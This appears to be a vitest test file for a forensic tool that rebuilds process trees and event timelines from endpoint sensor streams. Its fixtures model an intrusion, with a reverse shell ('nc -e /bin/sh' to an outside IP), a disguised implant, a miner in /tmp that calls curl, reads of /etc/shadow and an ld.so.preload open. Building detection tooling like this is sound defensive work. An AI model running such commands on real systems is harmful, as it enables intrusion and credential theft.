// Process trees from the stored process table, on sensor streams as the sensor writes them (imported
// through ingest): the recorded intrusion on web-01, and generated streams for big trees, reused pids and
// parents seen late. Then the events of a tree, page by page and as a time line.
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import { importSensorStream } from '../ingest/index.ts';
import { CaseStore } from './case-store.ts';

const demoStream = readFileSync(resolve(import.meta.dirname, '../../resources/demo/web-01.ndjson'), 'utf8');

function newCase(): { store: CaseStore; hostId: number } {
  const store = CaseStore.create(join(mkdtempSync(join(tmpdir(), 'wb-tree-')), 'c.wbcase'), 'C', 0);
  const hostId = store.addHost({ name: 'web-01', address: '10.0.2.20', os: 'Debian GNU/Linux 12 (bookworm)', kernel: '6.1.0-28-amd64', arch: 'x86_64' }, 0);
  return { store, hostId };
}

function demoCase() {
  const made = newCase();
  importSensorStream(made.store, made.hostId, 'web-01', 'web-01.ndjson', demoStream);
  return made;
}

const t0 = 1_795_183_320_000_000_000;

/** A sensor stream written line by line: processes fork and exec as the sensor reports them. */
class Stream {
  private readonly lines = [JSON.stringify({ type: 'hello', sensor: { version: '0.1.0' }, host: 'web-01', boot_id: 'boot-1' })];
  private seq = 0;
  private ts = t0;

  private process(p: { pid: number; ppid: number; path: string; argv: string[]; user?: string; createdAt: number }) {
    const name = p.path.split('/').at(-1)!;
    const uid = p.user === 'root' ? 0 : 33;
    return { pid: p.pid, tid: p.pid, ppid: p.ppid, uid, gid: uid, euid: uid, egid: uid, auid: 4294967295, user: p.user ?? 'www-data', comm: name.slice(0, 15), file: { path: p.path, name }, argv: p.argv, argv0: name, args: p.argv.join(' '), args_truncated: false, cwd: '/', created_at: p.createdAt, tty_name: '', cgroup: { id: 4242 }, container: { id: '' } };
  }

  private push(type: string, process: Record<string, unknown>, detail: Record<string, unknown>) {
    this.seq++;
    this.ts += 1_000_000;
    this.lines.push(JSON.stringify({ seq: this.seq, ts: this.ts, type, process, [type]: detail }));
  }

  snapshot(pid: number, ppid: number, path: string, createdAt = t0 - 1e12): this {
    this.push('snapshot', this.process({ pid, ppid, path, argv: [], user: 'root', createdAt }), {});
    return this;
  }

  /** fork then exec: a new process running `path`. Returns its start time. */
  spawn(pid: number, ppid: number, path: string, argv: string[] = [], user?: string): number {
    const createdAt = this.ts + 500_000;
    this.push('fork', this.process({ pid, ppid, path: '/usr/bin/bash', argv: [], createdAt, ...(user ? { user } : {}) }), { child: { pid }, parent: { pid: ppid } });
    this.push('exec', this.process({ pid, ppid, path, argv, createdAt, ...(user ? { user } : {}) }), { file: { path, name: path.split('/').at(-1) }, argv, argv0: path.split('/').at(-1), args: argv.join(' '), args_truncated: false });
    return createdAt;
  }

  open(pid: number, ppid: number, path: string, createdAt: number, file: string): this {
    this.push('open', this.process({ pid, ppid, path, argv: [], createdAt }), { file: { path: file, name: file.split('/').at(-1) }, flags: 0, mode: 0, retval: 3 });
    return this;
  }

  exit(pid: number, ppid: number, path: string, createdAt: number): this {
    this.push('exit', this.process({ pid, ppid, path, argv: [], createdAt }), { code: 0, cause: 'EXITED' });
    return this;
  }

  text(): string {
    return `${this.lines.join('\n')}\n`;
  }
}

describe('the process tree around a process', () => {
  it('gives the flagged process of the web-01 intrusion with every ancestor, its parent first in line, and what it left out', () => {
    const { store, hostId } = demoCase();
    const tree = store.processTree({ hostId, pid: 23035 }, 5000)!;
    const focus = tree.nodes.find((node) => node.key === tree.focusKey)!;
    expect(focus).toMatchObject({ role: 'focus', pid: 23035, executable: '/usr/bin/cat', argv: ['/etc/shadow'], user: 'root', eventCount: 4 });
    // cat ← bash -c ← sudo ← interactive bash ← implant ← bash ← sh -c curl|bash ← php-fpm worker ← php-fpm master ← systemd
    const ancestors = tree.nodes.filter((node) => node.role === 'ancestor');
    expect(ancestors.map((node) => node.pid)).toEqual([1, 840, 841, 23020, 23022, 23026, 23030, 23033, 23034]);
    expect(ancestors.find((node) => node.pid === 23026)).toMatchObject({ executable: '/tmp/.x/kworkerd', argv0: '[kworker/0:2]' });
    // every node but the root hangs from a node of the tree
    const keys = new Set(tree.nodes.map((node) => node.key));
    for (const node of tree.nodes.slice(1)) expect(keys, node.key).toContain(node.parentKey);
    expect(tree.nodes[0]!.parentKey).toBeNull();
    // systemd's sshd and nginx, and the interactive shell's six other commands, are not on the way down
    expect(ancestors.find((node) => node.pid === 1)!.hiddenChildren).toBe(2);
    expect(ancestors.find((node) => node.pid === 23030)!.hiddenChildren).toBe(6);
    expect(tree.host).toMatchObject({ name: 'web-01', address: '10.0.2.20', kernel: '6.1.0-28-amd64', os: 'Debian GNU/Linux 12 (bookworm)' });
    store.close();
  });

  it('finds the process an event happened in, with its children, grandchildren and siblings', () => {
    const { store, hostId } = demoCase();
    // the event that opened /etc/shadow belongs to cat (pid 23035); its tree from the sudo above it
    const shadow = store.queryEvents({ text: 'shadow', types: ['open'], limit: 10 }).rows.find((row) => row.summary === '/etc/shadow')!;
    const byEvent = store.processTree({ eventId: shadow.id }, 5000)!;
    expect(byEvent.focusKey).toMatch(/^23035@/);
    const sudo = store.processTree({ hostId, pid: 23033 }, 5000)!;
    expect(sudo.nodes.filter((node) => node.role === 'descendant').map((node) => [node.pid, node.executable])).toEqual([
      [23034, '/usr/bin/bash'],
      [23035, '/usr/bin/cat'],
    ]);
    // the interactive shell's other commands are the sudo's siblings
    expect(sudo.nodes.filter((node) => node.role === 'sibling').map((node) => node.pid)).toEqual([23031, 23032, 23040, 23041, 23050, 23060]);
    expect(store.processTree({ hostId, pid: 99_999 }, 5000)).toBeNull();
    store.close();
  });

  it('stays under its limit on a huge tree and says how many children it left out where', () => {
    const { store, hostId } = newCase();
    const stream = new Stream().snapshot(1, 0, '/usr/lib/systemd/systemd');
    const runner = stream.spawn(100, 1, '/usr/bin/make', ['-j8']);
    const make = stream.spawn(200, 100, '/usr/bin/make', ['-C', 'src']);
    for (let i = 0; i < 300; i++) stream.spawn(1000 + i, 200, '/usr/bin/cc', ['-c', `f${i}.c`]);
    for (let i = 0; i < 40; i++) stream.spawn(5000 + i, 100, '/usr/bin/make', ['-C', `lib${i}`]);
    importSensorStream(store, hostId, 'web-01', 's.ndjson', stream.text());

    const whole = store.processTree({ hostId, pid: 200, startNs: make }, 5000)!;
    expect(whole.nodes).toHaveLength(2 + 1 + 40 + 300); // systemd and the runner, make, its 40 siblings, 300 compilers
    expect(whole.hidden).toBe(0);

    const cut = store.processTree({ hostId, pid: 200, startNs: make }, 100)!;
    expect(cut.nodes).toHaveLength(100);
    const [focus] = cut.nodes.filter((node) => node.role === 'focus');
    const compilers = cut.nodes.filter((node) => node.role === 'descendant');
    const siblings = cut.nodes.filter((node) => node.role === 'sibling');
    // a fifth of the room goes to siblings, the rest to descendants, and each cut says by how much
    expect(siblings.length).toBe(19);
    expect(compilers.length).toBe(100 - 3 - 19);
    expect(focus!.hiddenChildren).toBe(300 - compilers.length);
    expect(cut.nodes.find((node) => node.pid === 100)!.hiddenChildren).toBe(40 - 19);
    expect(cut.hidden).toBe(300 - compilers.length + 40 - 19);
    // compilers in the order they started
    expect(compilers.slice(0, 3).map((node) => node.argv)).toEqual([['-c', 'f0.c'], ['-c', 'f1.c'], ['-c', 'f2.c']]);
    expect(runner).toBeLessThan(make);
    store.close();
  });

  it('keeps two processes that reused a pid apart: each has its own children and events', () => {
    const { store, hostId } = newCase();
    const stream = new Stream().snapshot(1, 0, '/usr/lib/systemd/systemd');
    const first = stream.spawn(300, 1, '/usr/bin/cron', ['-f']);
    const firstChild = stream.spawn(301, 300, '/usr/bin/logrotate', ['/etc/logrotate.conf']);
    stream.exit(301, 300, '/usr/bin/logrotate', firstChild).exit(300, 1, '/usr/bin/cron', first);
    const second = stream.spawn(300, 1, '/tmp/.x/miner', ['--donate-level', '0']);
    const secondChild = stream.spawn(302, 300, '/usr/bin/curl', ['http://203.0.113.45/pool']);
    stream.open(300, 1, '/tmp/.x/miner', second, '/etc/ld.so.preload');
    importSensorStream(store, hostId, 'web-01', 's.ndjson', stream.text());

    const old = store.processTree({ hostId, pid: 300, startNs: first }, 5000)!;
    const now = store.processTree({ hostId, pid: 300, startNs: second }, 5000)!;
    expect(old.nodes.filter((node) => node.role === 'descendant').map((node) => node.executable)).toEqual(['/usr/bin/logrotate']);
    expect(now.nodes.filter((node) => node.role === 'descendant').map((node) => node.executable)).toEqual(['/usr/bin/curl']);
    expect(now.nodes.find((node) => node.role === 'focus')).toMatchObject({ executable: '/tmp/.x/miner', eventCount: 3 });
    // the later process is who "pid 300" is now; each one's events are its own
    expect(store.processTree({ hostId, pid: 300 }, 5000)!.focusKey).toBe(`300@${second}`);
    const events = store.processEvents({ hostId, processes: [{ pid: 300, startNs: second }], limit: 50 });
    expect(events.rows.map((row) => row.type)).toEqual(['fork', 'exec', 'open']);
    expect(secondChild).toBeGreaterThan(second);
    store.close();
  });

  it('finds a parent that ingest met only after its child', () => {
    const { store, hostId } = newCase();
    const stream = new Stream();
    // the child's exec arrives before the sensor's snapshot of its parent (a sensor started mid-flight)
    const child = stream.spawn(701, 700, '/usr/bin/nc', ['-e', '/bin/sh', '198.51.100.23', '4444']);
    stream.snapshot(700, 1, '/usr/sbin/cron', t0 - 5e9).snapshot(1, 0, '/usr/lib/systemd/systemd');
    importSensorStream(store, hostId, 'web-01', 's.ndjson', stream.text());
    const tree = store.processTree({ hostId, pid: 701, startNs: child }, 5000)!;
    expect(tree.nodes.filter((node) => node.role === 'ancestor').map((node) => node.executable)).toEqual(['/usr/lib/systemd/systemd', '/usr/sbin/cron']);
    expect(store.processTree({ hostId, pid: 700 }, 5000)!.nodes.filter((node) => node.role === 'descendant').map((node) => node.pid)).toEqual([701]);
    store.close();
  });
});

describe('the events of a process tree', () => {
  it('pages through every event of the tree once, in time order, with the total and a type filter', () => {
    const { store, hostId } = demoCase();
    const tree = store.processTree({ hostId, pid: 23030 }, 5000)!;
    const processes = tree.nodes.map((node) => ({ pid: node.pid, startNs: node.startNs }));
    const expected = tree.nodes.reduce((sum, node) => sum + node.eventCount, 0);
    const seen: number[] = [];
    let after: { tsNs: number; id: number } | undefined;
    let total: number | null = null;
    do {
      const page = store.processEvents({ hostId, processes, limit: 7, ...(after ? { after } : {}) });
      total ??= page.total;
      seen.push(...page.rows.map((row) => row.tsNs));
      after = page.next ?? undefined;
    } while (after);
    expect(total).toBe(expected);
    expect(seen).toHaveLength(expected);
    expect(seen).toEqual([...seen].sort((a, b) => a - b));
    const newest = store.processEvents({ hostId, processes, order: 'desc', limit: 2 });
    expect(newest.rows.map((row) => [row.pid, row.type])).toEqual([[23060, 'exit'], [23060, 'link']]); // the history wiped last
    // the implant's call home and the hop to db-01; the curl downloads belong to processes off this tree
    const connects = store.processEvents({ hostId, processes, types: ['connect'], limit: 50 });
    expect(connects.rows.map((row) => row.summary)).toEqual(['198.51.100.23:4444', '10.0.2.21:22']);
    expect(connects.total).toBe(connects.rows.length);
    store.close();
  });

  it('gives the tree as points on a time line, each naming its process, capped with the true total', () => {
    const { store, hostId } = demoCase();
    const tree = store.processTree({ hostId, pid: 23030 }, 5000)!;
    const processes = tree.nodes.map((node) => ({ pid: node.pid, startNs: node.startNs }));
    const all = store.processTimeline({ hostId, processes, limit: 10_000 });
    const keys = new Set(tree.nodes.map((node) => node.key));
    expect(all.points.every((point) => keys.has(point.processKey))).toBe(true);
    expect(all.total).toBe(all.points.length);
    const capped = store.processTimeline({ hostId, processes, limit: 5 });
    expect(capped.points).toEqual(all.points.slice(0, 5));
    expect(capped.total).toBe(all.total);
    store.close();
  });
});
